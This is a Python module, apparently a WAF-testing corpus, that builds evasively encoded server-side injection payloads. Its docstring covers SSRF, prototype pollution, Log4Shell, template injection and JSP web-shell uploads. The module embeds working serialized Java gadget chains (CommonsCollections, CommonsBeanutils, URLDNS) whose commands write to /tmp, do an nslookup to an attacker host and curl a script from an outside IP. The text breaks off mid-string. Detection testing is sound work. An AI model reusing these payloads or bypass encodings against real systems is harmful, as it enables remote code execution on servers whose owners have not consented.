"""Blind set "hundredseventyfourth": generic server-side injection (Node.js, SSRF, prototype pollution, Ruby, Perl,
PHP data: URIs), Java (class names, process spawning, serialized objects and gadget chains, Log4Shell, expression
languages, polymorphic binders, class loading, JSP uploads) and server-side template injection in seventeen
engines, written the way a WAF-bypass researcher writes them, with benign requests that carry the same syntax
innocently.

The angle: WAF-bypass research, recalled from memory. A researcher hunting for a bypass of a regex-and-libinjection
WAF keeps the attack that works and rewrites it in every syntax its target still accepts: comments and unusual
whitespace between tokens, mixed case where the target ignores it, keywords built from pieces by string
concatenation, alternative functions and operators for the same effect, escape sequences the target itself
decodes (JavaScript \\x and \\u escapes, Ruby and Perl string escapes, Jinja and FreeMarker string escapes, javac's
\\u pre-processing in a JSP scriptlet, XML character references in XStream/XMLDecoder/JSPX documents, JSON \\u and
\\/ escapes inside a JSON body, fastjson's \\x escapes, HTML entities a browser decodes in an attribute), IP
addresses in every form inet_aton and the WHATWG URL parser accept (decimal, octal, hex, short forms, IPv6-mapped,
fullwidth digits and ideographic full stops that IDNA maps to ASCII, percent-encoded dots), base64, hex, gzip and
percent-encoding around serialized Java objects, and transport tricks: a whole JSON, YAML or XML document as the
body, a raw form body, the payload as a parameter name, multipart fields and file names, bracket-syntax query
pairs. Every payload still works against its named target once the target decodes it; a comment above each group
names the family and the target (interpreter, framework, template engine, product). The serialized objects are real
streams (URLDNS, CommonsCollections1/6, CommonsBeanutils1, Jdk7u21, a translet class for TemplatesImpl and its BCEL
form), built for this set with the JDK and the commons-collections/commons-beanutils jars of the local Maven cache
and kept here as base64.

Families (category: sub-families, one per detection title):
  generic: nodejs-injection, nodejs-dos, ssrf-cloud-metadata, ssrf-internal-ip, javascript-prototype-pollution,
    ruby-injection, perl-injection, php-data-scheme
  java: java-class-names, java-process-spawn, java-serialization, deserialization-gadgets, log4shell,
    expression-language, polymorphic-deserialization, class-loading, jsp-upload
  ssti: jinja2, twig, freemarker, velocity, thymeleaf, erb, smarty, handlebars, pug, mako, tornado, nunjucks, ejs,
    pebble, razor, go-templates, liquid

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body, a
multipart field, the URL path; whole documents as the JSON, YAML or XML body; JSP file names as the admin import's
upload, which then carries a JSP web shell), once the way a WAF regression suite sends it (placements prefixed
"rs-"): to paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi)
under arbitrary parameter names, as a query string, form body, JSON/YAML/XML body, a raw form-typed body, a multipart
upload, or in User-Agent, Referer, a custom header or a cookie. Serialized Java streams as raw bytes go only where a
body or query can carry bytes (percent-encoded by the client, decoded by the server); bracket-syntax pollution pairs
and EJS option pairs go as raw `name=value` query strings or form bodies. Payloads with newlines or non-ASCII
characters never go into headers, cookies or the path.

Authorship and independence: written for this repository from general knowledge of each attack family, bypass
techniques as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression test or
public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
import binascii
import codecs
import gzip
import json
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet, Put, Record, request
from .records import numbered, print_records

NAME = "hundredseventyfourth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")   # the payload is the whole JSON document
YB = ("yaml-body", "rs-yaml-body")   # the whole YAML document
XB = ("xml", "rs-xml")   # the whole XML document (an XStream/XMLDecoder/JSPX/SOAP document goes as the body)
UP = ("multipart-filename", "rs-multipart-filename")   # the upload's file name
RAW_PAIRS: set[str] = set()   # payloads written as `name=value` query strings, sent unquoted


def kv(payload: str, real: str = "query", rs: str = "rs-raw-body") -> tuple[str, str, str]:
    """A bracket-syntax or option pair written as `name=value`: goes as the query string or form body itself."""
    RAW_PAIRS.add(payload)
    return payload, real, rs


# --- encodings the targets decode ---------------------------------------------------------------------------------
def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def u_esc(text: str) -> str:
    """Every character as a \\uXXXX escape (JSON, JavaScript, Java source, Groovy and fastjson decode it)."""
    return "".join(f"\\u{ord(ch):04x}" for ch in text)


def x_esc(text: str) -> str:
    """Every character as a \\xHH escape (JavaScript, Ruby, Perl, Python and Jinja string literals decode it)."""
    return "".join(f"\\x{ord(ch):02x}" for ch in text)


def char_codes(text: str) -> str:
    return ",".join(str(ord(ch)) for ch in text)


def hex_of(text: str) -> str:
    return text.encode().hex()


def fullwidth(text: str) -> str:
    """ASCII as its fullwidth compatibility form (IDNA/UTS 46 in a WHATWG URL parser maps it back)."""
    return "".join(chr(ord(ch) + 0xFEE0) if "!" <= ch <= "~" else ch for ch in text)


def pct(text: str) -> str:
    """Every byte percent-encoded (the data: wrapper and gopher:// decode it)."""
    return "".join(f"%{b:02X}" for b in text.encode())


def ps_enc(command: str) -> str:
    """A PowerShell -EncodedCommand argument: base64 of UTF-16LE."""
    return base64.b64encode(command.encode("utf-16-le")).decode()


def resp(*commands: list[str]) -> str:
    """Redis commands in RESP, as a gopher:// path carries them (percent-encoded after the leading `_`)."""
    out = ""
    for args in commands:
        out += f"*{len(args)}\r\n" + "".join(f"${len(a.encode())}\r\n{a}\r\n" for a in args)
    return "_" + urllib.parse.quote(out, safe="")


# --- serialized Java objects --------------------------------------------------------------------------------------
def ser_bytes(stream_b64: str) -> bytes:
    return base64.b64decode(stream_b64)


def ser_raw(stream_b64: str) -> str:
    """The stream as raw bytes held as latin-1 text (percent-encoded by the client, bytes again at the server)."""
    return ser_bytes(stream_b64).decode("latin-1")


def ser_pct(stream_b64: str) -> str:
    return "".join(f"%{b:02X}" for b in ser_bytes(stream_b64))


def ser_hex(stream_b64: str) -> str:
    return binascii.hexlify(ser_bytes(stream_b64)).decode()


def ser_gzip_b64(stream_b64: str) -> str:
    """GZIP then base64, as JSF client-side view state carries it (mtime 0: deterministic)."""
    return base64.b64encode(gzip.compress(ser_bytes(stream_b64), mtime=0)).decode()


def ser_b64url(stream_b64: str) -> str:
    return base64.urlsafe_b64encode(ser_bytes(stream_b64)).decode().rstrip("=")


def ser_mime(stream_b64: str) -> str:
    """Base64 wrapped at 76 characters with CRLF, as a MIME encoder writes it (Java's MIME decoder accepts it)."""
    return "\r\n".join(stream_b64[i:i + 76] for i in range(0, len(stream_b64), 76))


# URLDNS (JDK only): a HashMap keyed by a java.net.URL whose hashCode, recomputed on readObject, resolves the host
SER_URLDNS = (
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAA"
    "AAABc3IADGphdmEubmV0LlVSTJYlNzYa/ORyAwAHSQAIaGFzaENvZGVJAARwb3J0TAAJYXV0aG9yaXR5dAASTGphdmEvbGFuZy9TdHJp"
    "bmc7TAAEZmlsZXEAfgADTAAEaG9zdHEAfgADTAAIcHJvdG9jb2xxAH4AA0wAA3JlZnEAfgADeHD//////////3QAIHVybGRucy03ZjNh"
    "Lm9vYi5hdHRhY2tlci5leGFtcGxldAABL3EAfgAFdAAEaHR0cHB4dAAoaHR0cDovL3VybGRucy03ZjNhLm9vYi5hdHRhY2tlci5leGFt"
    "cGxlL3g="
)

# CommonsCollections6 (commons-collections <= 3.2.1): HashMap > TiedMapEntry > LazyMap > ChainedTransformer, exec
SER_CC6_TOUCH = (
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAA"
    "AAABc3IANG9yZy5hcGFjaGUuY29tbW9ucy5jb2xsZWN0aW9ucy5rZXl2YWx1ZS5UaWVkTWFwRW50cnmKrdKbOcEf2wIAAkwAA2tleXQA"
    "EkxqYXZhL2xhbmcvT2JqZWN0O0wAA21hcHQAD0xqYXZhL3V0aWwvTWFwO3hwdAABa3NyACpvcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVj"
    "dGlvbnMubWFwLkxhenlNYXBu5ZSCnnkQlAMAAUwAB2ZhY3Rvcnl0ACxMb3JnL2FwYWNoZS9jb21tb25zL2NvbGxlY3Rpb25zL1RyYW5z"
    "Zm9ybWVyO3hwc3IAOm9yZy5hcGFjaGUuY29tbW9ucy5jb2xsZWN0aW9ucy5mdW5jdG9ycy5DaGFpbmVkVHJhbnNmb3JtZXIwx5fsKHqX"
    "BAIAAVsADWlUcmFuc2Zvcm1lcnN0AC1bTG9yZy9hcGFjaGUvY29tbW9ucy9jb2xsZWN0aW9ucy9UcmFuc2Zvcm1lcjt4cHVyAC1bTG9y"
    "Zy5hcGFjaGUuY29tbW9ucy5jb2xsZWN0aW9ucy5UcmFuc2Zvcm1lcju9Virx2DQYmQIAAHhwAAAABXNyADtvcmcuYXBhY2hlLmNvbW1v"
    "bnMuY29sbGVjdGlvbnMuZnVuY3RvcnMuQ29uc3RhbnRUcmFuc2Zvcm1lclh2kBFBArGUAgABTAAJaUNvbnN0YW50cQB+AAN4cHZyABFq"
    "YXZhLmxhbmcuUnVudGltZQAAAAAAAAAAAAAAeHBzcgA6b3JnLmFwYWNoZS5jb21tb25zLmNvbGxlY3Rpb25zLmZ1bmN0b3JzLkludm9r"
    "ZXJUcmFuc2Zvcm1lcofo/2t7fM44AwADWwAFaUFyZ3N0ABNbTGphdmEvbGFuZy9PYmplY3Q7TAALaU1ldGhvZE5hbWV0ABJMamF2YS9s"
    "YW5nL1N0cmluZztbAAtpUGFyYW1UeXBlc3QAEltMamF2YS9sYW5nL0NsYXNzO3hwdXIAE1tMamF2YS5sYW5nLk9iamVjdDuQzlifEHMp"
    "bAIAAHhwAAAAAnQACmdldFJ1bnRpbWV1cgASW0xqYXZhLmxhbmcuQ2xhc3M7qxbXrsvNWpkCAAB4cAAAAAB0AAlnZXRNZXRob2R1cQB+"
    "ABsAAAACdnIAEGphdmEubGFuZy5TdHJpbmeg8KQ4ejuzQgIAAHhwdnEAfgAbeHNxAH4AE3VxAH4AGAAAAAJwdXEAfgAYAAAAAHQABmlu"
    "dm9rZXVxAH4AGwAAAAJ2cgAQamF2YS5sYW5nLk9iamVjdAAAAAAAAAAAAAAAeHB2cQB+ABh4c3EAfgATdXEAfgAYAAAAAXQAEHRvdWNo"
    "IC90bXAvcHduZWR0AARleGVjdXEAfgAbAAAAAXEAfgAgeHNxAH4AD3NyABFqYXZhLmxhbmcuSW50ZWdlchLioKT3gYc4AgABSQAFdmFs"
    "dWV4cgAQamF2YS5sYW5nLk51bWJlcoaslR0LlOCLAgAAeHAAAAABc3EAfgAAP0AAAAAAAAx3CAAAABAAAAAAeHh0AAF2eA=="
)

# CommonsCollections6, the command an out-of-band DNS lookup
SER_CC6_NSLOOKUP = (
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAA"
    "AAABc3IANG9yZy5hcGFjaGUuY29tbW9ucy5jb2xsZWN0aW9ucy5rZXl2YWx1ZS5UaWVkTWFwRW50cnmKrdKbOcEf2wIAAkwAA2tleXQA"
    "EkxqYXZhL2xhbmcvT2JqZWN0O0wAA21hcHQAD0xqYXZhL3V0aWwvTWFwO3hwdAABa3NyACpvcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVj"
    "dGlvbnMubWFwLkxhenlNYXBu5ZSCnnkQlAMAAUwAB2ZhY3Rvcnl0ACxMb3JnL2FwYWNoZS9jb21tb25zL2NvbGxlY3Rpb25zL1RyYW5z"
    "Zm9ybWVyO3hwc3IAOm9yZy5hcGFjaGUuY29tbW9ucy5jb2xsZWN0aW9ucy5mdW5jdG9ycy5DaGFpbmVkVHJhbnNmb3JtZXIwx5fsKHqX"
    "BAIAAVsADWlUcmFuc2Zvcm1lcnN0AC1bTG9yZy9hcGFjaGUvY29tbW9ucy9jb2xsZWN0aW9ucy9UcmFuc2Zvcm1lcjt4cHVyAC1bTG9y"
    "Zy5hcGFjaGUuY29tbW9ucy5jb2xsZWN0aW9ucy5UcmFuc2Zvcm1lcju9Virx2DQYmQIAAHhwAAAABXNyADtvcmcuYXBhY2hlLmNvbW1v"
    "bnMuY29sbGVjdGlvbnMuZnVuY3RvcnMuQ29uc3RhbnRUcmFuc2Zvcm1lclh2kBFBArGUAgABTAAJaUNvbnN0YW50cQB+AAN4cHZyABFq"
    "YXZhLmxhbmcuUnVudGltZQAAAAAAAAAAAAAAeHBzcgA6b3JnLmFwYWNoZS5jb21tb25zLmNvbGxlY3Rpb25zLmZ1bmN0b3JzLkludm9r"
    "ZXJUcmFuc2Zvcm1lcofo/2t7fM44AwADWwAFaUFyZ3N0ABNbTGphdmEvbGFuZy9PYmplY3Q7TAALaU1ldGhvZE5hbWV0ABJMamF2YS9s"
    "YW5nL1N0cmluZztbAAtpUGFyYW1UeXBlc3QAEltMamF2YS9sYW5nL0NsYXNzO3hwdXIAE1tMamF2YS5sYW5nLk9iamVjdDuQzlifEHMp"
    "bAIAAHhwAAAAAnQACmdldFJ1bnRpbWV1cgASW0xqYXZhLmxhbmcuQ2xhc3M7qxbXrsvNWpkCAAB4cAAAAAB0AAlnZXRNZXRob2R1cQB+"
    "ABsAAAACdnIAEGphdmEubGFuZy5TdHJpbmeg8KQ4ejuzQgIAAHhwdnEAfgAbeHNxAH4AE3VxAH4AGAAAAAJwdXEAfgAYAAAAAHQABmlu"
    "dm9rZXVxAH4AGwAAAAJ2cgAQamF2YS5sYW5nLk9iamVjdAAAAAAAAAAAAAAAeHB2cQB+ABh4c3EAfgATdXEAfgAYAAAAAXQAIW5zbG9v"
    "a3VwIGNjNi5vb2IuYXR0YWNrZXIuZXhhbXBsZXQABGV4ZWN1cQB+ABsAAAABcQB+ACB4c3EAfgAPc3IAEWphdmEubGFuZy5JbnRlZ2Vy"
    "EuKgpPeBhzgCAAFJAAV2YWx1ZXhyABBqYXZhLmxhbmcuTnVtYmVyhqyVHQuU4IsCAAB4cAAAAAFzcQB+AAA/QAAAAAAADHcIAAAAEAAA"
    "AAB4eHQAAXZ4"
)

# CommonsCollections6, Runtime.exec's whitespace split defeated with bash brace expansion and base64
SER_CC6_BASH = (
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAA"
    "AAABc3IANG9yZy5hcGFjaGUuY29tbW9ucy5jb2xsZWN0aW9ucy5rZXl2YWx1ZS5UaWVkTWFwRW50cnmKrdKbOcEf2wIAAkwAA2tleXQA"
    "EkxqYXZhL2xhbmcvT2JqZWN0O0wAA21hcHQAD0xqYXZhL3V0aWwvTWFwO3hwdAABa3NyACpvcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVj"
    "dGlvbnMubWFwLkxhenlNYXBu5ZSCnnkQlAMAAUwAB2ZhY3Rvcnl0ACxMb3JnL2FwYWNoZS9jb21tb25zL2NvbGxlY3Rpb25zL1RyYW5z"
    "Zm9ybWVyO3hwc3IAOm9yZy5hcGFjaGUuY29tbW9ucy5jb2xsZWN0aW9ucy5mdW5jdG9ycy5DaGFpbmVkVHJhbnNmb3JtZXIwx5fsKHqX"
    "BAIAAVsADWlUcmFuc2Zvcm1lcnN0AC1bTG9yZy9hcGFjaGUvY29tbW9ucy9jb2xsZWN0aW9ucy9UcmFuc2Zvcm1lcjt4cHVyAC1bTG9y"
    "Zy5hcGFjaGUuY29tbW9ucy5jb2xsZWN0aW9ucy5UcmFuc2Zvcm1lcju9Virx2DQYmQIAAHhwAAAABXNyADtvcmcuYXBhY2hlLmNvbW1v"
    "bnMuY29sbGVjdGlvbnMuZnVuY3RvcnMuQ29uc3RhbnRUcmFuc2Zvcm1lclh2kBFBArGUAgABTAAJaUNvbnN0YW50cQB+AAN4cHZyABFq"
    "YXZhLmxhbmcuUnVudGltZQAAAAAAAAAAAAAAeHBzcgA6b3JnLmFwYWNoZS5jb21tb25zLmNvbGxlY3Rpb25zLmZ1bmN0b3JzLkludm9r"
    "ZXJUcmFuc2Zvcm1lcofo/2t7fM44AwADWwAFaUFyZ3N0ABNbTGphdmEvbGFuZy9PYmplY3Q7TAALaU1ldGhvZE5hbWV0ABJMamF2YS9s"
    "YW5nL1N0cmluZztbAAtpUGFyYW1UeXBlc3QAEltMamF2YS9sYW5nL0NsYXNzO3hwdXIAE1tMamF2YS5sYW5nLk9iamVjdDuQzlifEHMp"
    "bAIAAHhwAAAAAnQACmdldFJ1bnRpbWV1cgASW0xqYXZhLmxhbmcuQ2xhc3M7qxbXrsvNWpkCAAB4cAAAAAB0AAlnZXRNZXRob2R1cQB+"
    "ABsAAAACdnIAEGphdmEubGFuZy5TdHJpbmeg8KQ4ejuzQgIAAHhwdnEAfgAbeHNxAH4AE3VxAH4AGAAAAAJwdXEAfgAYAAAAAHQABmlu"
    "dm9rZXVxAH4AGwAAAAJ2cgAQamF2YS5sYW5nLk9iamVjdAAAAAAAAAAAAAAAeHB2cQB+ABh4c3EAfgATdXEAfgAYAAAAAXQAOWJhc2gg"
    "LWMge2VjaG8sYVdRZ1BpQXZkRzF3TDNCM2JtVmt9fHtiYXNlNjQsLWR9fHtiYXNoLC1pfXQABGV4ZWN1cQB+ABsAAAABcQB+ACB4c3EA"
    "fgAPc3IAEWphdmEubGFuZy5JbnRlZ2VyEuKgpPeBhzgCAAFJAAV2YWx1ZXhyABBqYXZhLmxhbmcuTnVtYmVyhqyVHQuU4IsCAAB4cAAA"
    "AAFzcQB+AAA/QAAAAAAADHcIAAAAEAAAAAB4eHQAAXZ4"
)

# CommonsCollections6, a download to /tmp
SER_CC6_CURL = (
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAA"
    "AAABc3IANG9yZy5hcGFjaGUuY29tbW9ucy5jb2xsZWN0aW9ucy5rZXl2YWx1ZS5UaWVkTWFwRW50cnmKrdKbOcEf2wIAAkwAA2tleXQA"
    "EkxqYXZhL2xhbmcvT2JqZWN0O0wAA21hcHQAD0xqYXZhL3V0aWwvTWFwO3hwdAABa3NyACpvcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVj"
    "dGlvbnMubWFwLkxhenlNYXBu5ZSCnnkQlAMAAUwAB2ZhY3Rvcnl0ACxMb3JnL2FwYWNoZS9jb21tb25zL2NvbGxlY3Rpb25zL1RyYW5z"
    "Zm9ybWVyO3hwc3IAOm9yZy5hcGFjaGUuY29tbW9ucy5jb2xsZWN0aW9ucy5mdW5jdG9ycy5DaGFpbmVkVHJhbnNmb3JtZXIwx5fsKHqX"
    "BAIAAVsADWlUcmFuc2Zvcm1lcnN0AC1bTG9yZy9hcGFjaGUvY29tbW9ucy9jb2xsZWN0aW9ucy9UcmFuc2Zvcm1lcjt4cHVyAC1bTG9y"
    "Zy5hcGFjaGUuY29tbW9ucy5jb2xsZWN0aW9ucy5UcmFuc2Zvcm1lcju9Virx2DQYmQIAAHhwAAAABXNyADtvcmcuYXBhY2hlLmNvbW1v"
    "bnMuY29sbGVjdGlvbnMuZnVuY3RvcnMuQ29uc3RhbnRUcmFuc2Zvcm1lclh2kBFBArGUAgABTAAJaUNvbnN0YW50cQB+AAN4cHZyABFq"
    "YXZhLmxhbmcuUnVudGltZQAAAAAAAAAAAAAAeHBzcgA6b3JnLmFwYWNoZS5jb21tb25zLmNvbGxlY3Rpb25zLmZ1bmN0b3JzLkludm9r"
    "ZXJUcmFuc2Zvcm1lcofo/2t7fM44AwADWwAFaUFyZ3N0ABNbTGphdmEvbGFuZy9PYmplY3Q7TAALaU1ldGhvZE5hbWV0ABJMamF2YS9s"
    "YW5nL1N0cmluZztbAAtpUGFyYW1UeXBlc3QAEltMamF2YS9sYW5nL0NsYXNzO3hwdXIAE1tMamF2YS5sYW5nLk9iamVjdDuQzlifEHMp"
    "bAIAAHhwAAAAAnQACmdldFJ1bnRpbWV1cgASW0xqYXZhLmxhbmcuQ2xhc3M7qxbXrsvNWpkCAAB4cAAAAAB0AAlnZXRNZXRob2R1cQB+"
    "ABsAAAACdnIAEGphdmEubGFuZy5TdHJpbmeg8KQ4ejuzQgIAAHhwdnEAfgAbeHNxAH4AE3VxAH4AGAAAAAJwdXEAfgAYAAAAAHQABmlu"
    "dm9rZXVxAH4AGwAAAAJ2cgAQamF2YS5sYW5nLk9iamVjdAAAAAAAAAAAAAAAeHB2cQB+ABh4c3EAfgATdXEAfgAYAAAAAXQAKWN1cmwg"
    "LW8gL3RtcC9zLnNoIGh0dHA6Ly8yMDMuMC4xMTMuNy9zLnNodAAEZXhlY3VxAH4AGwAAAAFxAH4AIHhzcQB+AA9zcgARamF2YS5sYW5n"
    "LkludGVnZXIS4qCk94GHOAIAAUkABXZhbHVleHIAEGphdmEubGFuZy5OdW1iZXKGrJUdC5TgiwIAAHhwAAAAAXNxAH4AAD9AAAAAAAAM"
    "dwgAAAAQAAAAAHh4dAABdng="
)

# CommonsCollections1 (JDK < 8u71): AnnotationInvocationHandler over a LazyMap proxy
SER_CC1_ID = (
    "rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlclXK9Q8Vy36lAgACTAAMbWVtYmVy"
    "VmFsdWVzdAAPTGphdmEvdXRpbC9NYXA7TAAEdHlwZXQAEUxqYXZhL2xhbmcvQ2xhc3M7eHBzfQAAAAEADWphdmEudXRpbC5NYXB4cgAX"
    "amF2YS5sYW5nLnJlZmxlY3QuUHJveHnhJ9ogzBBDywIAAUwAAWh0ACVMamF2YS9sYW5nL3JlZmxlY3QvSW52b2NhdGlvbkhhbmRsZXI7"
    "eHBzcQB+AABzcgAqb3JnLmFwYWNoZS5jb21tb25zLmNvbGxlY3Rpb25zLm1hcC5MYXp5TWFwbuWUgp55EJQDAAFMAAdmYWN0b3J5dAAs"
    "TG9yZy9hcGFjaGUvY29tbW9ucy9jb2xsZWN0aW9ucy9UcmFuc2Zvcm1lcjt4cHNyADpvcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVjdGlv"
    "bnMuZnVuY3RvcnMuQ2hhaW5lZFRyYW5zZm9ybWVyMMeX7Ch6lwQCAAFbAA1pVHJhbnNmb3JtZXJzdAAtW0xvcmcvYXBhY2hlL2NvbW1v"
    "bnMvY29sbGVjdGlvbnMvVHJhbnNmb3JtZXI7eHB1cgAtW0xvcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVjdGlvbnMuVHJhbnNmb3JtZXI7"
    "vVYq8dg0GJkCAAB4cAAAAAVzcgA7b3JnLmFwYWNoZS5jb21tb25zLmNvbGxlY3Rpb25zLmZ1bmN0b3JzLkNvbnN0YW50VHJhbnNmb3Jt"
    "ZXJYdpARQQKxlAIAAUwACWlDb25zdGFudHQAEkxqYXZhL2xhbmcvT2JqZWN0O3hwdnIAEWphdmEubGFuZy5SdW50aW1lAAAAAAAAAAAA"
    "AAB4cHNyADpvcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVjdGlvbnMuZnVuY3RvcnMuSW52b2tlclRyYW5zZm9ybWVyh+j/a3t8zjgDAANb"
    "AAVpQXJnc3QAE1tMamF2YS9sYW5nL09iamVjdDtMAAtpTWV0aG9kTmFtZXQAEkxqYXZhL2xhbmcvU3RyaW5nO1sAC2lQYXJhbVR5cGVz"
    "dAASW0xqYXZhL2xhbmcvQ2xhc3M7eHB1cgATW0xqYXZhLmxhbmcuT2JqZWN0O5DOWJ8QcylsAgAAeHAAAAACdAAKZ2V0UnVudGltZXVy"
    "ABJbTGphdmEubGFuZy5DbGFzczurFteuy81amQIAAHhwAAAAAHQACWdldE1ldGhvZHVxAH4AHgAAAAJ2cgAQamF2YS5sYW5nLlN0cmlu"
    "Z6DwpDh6O7NCAgAAeHB2cQB+AB54c3EAfgAWdXEAfgAbAAAAAnB1cQB+ABsAAAAAdAAGaW52b2tldXEAfgAeAAAAAnZyABBqYXZhLmxh"
    "bmcuT2JqZWN0AAAAAAAAAAAAAAB4cHZxAH4AG3hzcQB+ABZ1cQB+ABsAAAABdAACaWR0AARleGVjdXEAfgAeAAAAAXEAfgAjeHNxAH4A"
    "EXNyABFqYXZhLmxhbmcuSW50ZWdlchLioKT3gYc4AgABSQAFdmFsdWV4cgAQamF2YS5sYW5nLk51bWJlcoaslR0LlOCLAgAAeHAAAAAB"
    "c3IAEWphdmEudXRpbC5IYXNoTWFwBQfawcMWYNEDAAJGAApsb2FkRmFjdG9ySQAJdGhyZXNob2xkeHA/QAAAAAAAAHcIAAAAEAAAAAB4"
    "eHZyABJqYXZhLmxhbmcuT3ZlcnJpZGUAAAAAAAAAAAAAAHhwcQB+ADk="
)

# CommonsBeanutils1 (commons-beanutils 1.8.3, JDK only otherwise): PriorityQueue > BeanComparator > TemplatesImpl
SER_CB1 = (
    "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0Nv"
    "bXBhcmF0b3I7eHAAAAACc3IAK29yZy5hcGFjaGUuY29tbW9ucy5iZWFudXRpbHMuQmVhbkNvbXBhcmF0b3LPjgGC/k7xfgIAAkwACmNv"
    "bXBhcmF0b3JxAH4AAUwACHByb3BlcnR5dAASTGphdmEvbGFuZy9TdHJpbmc7eHBzcgAqamF2YS5sYW5nLlN0cmluZyRDYXNlSW5zZW5z"
    "aXRpdmVDb21wYXJhdG9ydwNcfVxQ5c4CAAB4cHQAEG91dHB1dFByb3BlcnRpZXN3BAAAAANzcgA6Y29tLnN1bi5vcmcuYXBhY2hlLnhh"
    "bGFuLmludGVybmFsLnhzbHRjLnRyYXguVGVtcGxhdGVzSW1wbAlXT8FurKszAwAGSQANX2luZGVudE51bWJlckkADl90cmFuc2xldElu"
    "ZGV4WwAKX2J5dGVjb2Rlc3QAA1tbQlsABl9jbGFzc3QAEltMamF2YS9sYW5nL0NsYXNzO0wABV9uYW1lcQB+AARMABFfb3V0cHV0UHJv"
    "cGVydGllc3QAFkxqYXZhL3V0aWwvUHJvcGVydGllczt4cAAAAAD/////dXIAA1tbQkv9GRVnZ9s3AgAAeHAAAAABdXIAAltCrPMX+AYI"
    "VOACAAB4cAAABAzK/rq+AAAANAApCgACAAMHAAQMAAUABgEAQGNvbS9zdW4vb3JnL2FwYWNoZS94YWxhbi9pbnRlcm5hbC94c2x0Yy9y"
    "dW50aW1lL0Fic3RyYWN0VHJhbnNsZXQBAAY8aW5pdD4BAAMoKVYKAAgACQcACgwACwAMAQARamF2YS9sYW5nL1J1bnRpbWUBAApnZXRS"
    "dW50aW1lAQAVKClMamF2YS9sYW5nL1J1bnRpbWU7BwAOAQAQamF2YS9sYW5nL1N0cmluZwgAEAEABy9iaW4vc2gIABIBAAItYwgAFAEA"
    "D2lkID4gL3RtcC9wd25lZAoACAAWDAAXABgBAARleGVjAQAoKFtMamF2YS9sYW5nL1N0cmluZzspTGphdmEvbGFuZy9Qcm9jZXNzOwcA"
    "GgEAE2phdmEvbGFuZy9FeGNlcHRpb24HABwBAAFQAQAEQ29kZQEAD0xpbmVOdW1iZXJUYWJsZQEACXRyYW5zZm9ybQEAcihMY29tL3N1"
    "bi9vcmcvYXBhY2hlL3hhbGFuL2ludGVybmFsL3hzbHRjL0RPTTtbTGNvbS9zdW4vb3JnL2FwYWNoZS94bWwvaW50ZXJuYWwvc2VyaWFs"
    "aXplci9TZXJpYWxpemF0aW9uSGFuZGxlcjspVgEACkV4Y2VwdGlvbnMHACMBADljb20vc3VuL29yZy9hcGFjaGUveGFsYW4vaW50ZXJu"
    "YWwveHNsdGMvVHJhbnNsZXRFeGNlcHRpb24BAKYoTGNvbS9zdW4vb3JnL2FwYWNoZS94YWxhbi9pbnRlcm5hbC94c2x0Yy9ET007TGNv"
    "bS9zdW4vb3JnL2FwYWNoZS94bWwvaW50ZXJuYWwvZHRtL0RUTUF4aXNJdGVyYXRvcjtMY29tL3N1bi9vcmcvYXBhY2hlL3htbC9pbnRl"
    "cm5hbC9zZXJpYWxpemVyL1NlcmlhbGl6YXRpb25IYW5kbGVyOylWAQAIPGNsaW5pdD4BAA1TdGFja01hcFRhYmxlAQAKU291cmNlRmls"
    "ZQEABlAuamF2YQAhABsAAgAAAAAABAABAAUABgABAB0AAAAdAAEAAQAAAAUqtwABsQAAAAEAHgAAAAYAAQAAAAcAAQAfACAAAgAdAAAA"
    "GQAAAAMAAAABsQAAAAEAHgAAAAYAAQAAAAsAIQAAAAQAAQAiAAEAHwAkAAIAHQAAABkAAAAEAAAAAbEAAAABAB4AAAAGAAEAAAAMACEA"
    "AAAEAAEAIgAIACUABgABAB0AAABQAAUAAQAAAB+4AAcGvQANWQMSD1NZBBIRU1kFEhNTtgAVV6cABEuxAAEAAAAaAB0AGQACAB4AAAAK"
    "AAIAAAAJAB4ACgAmAAAABwACXQcAGQAAAQAnAAAAAgAocHQAAVBwdwEAeHEAfgANeA=="
)

# Jdk7u21 (JDK <= 7u21): LinkedHashSet > Templates proxy > AnnotationInvocationHandler.equalsImpl
SER_JDK7U21 = (
    "rO0ABXNyABdqYXZhLnV0aWwuTGlua2VkSGFzaFNldNhs11qV3SoeAgAAeHIAEWphdmEudXRpbC5IYXNoU2V0ukSFlZa4tzQDAAB4cHcM"
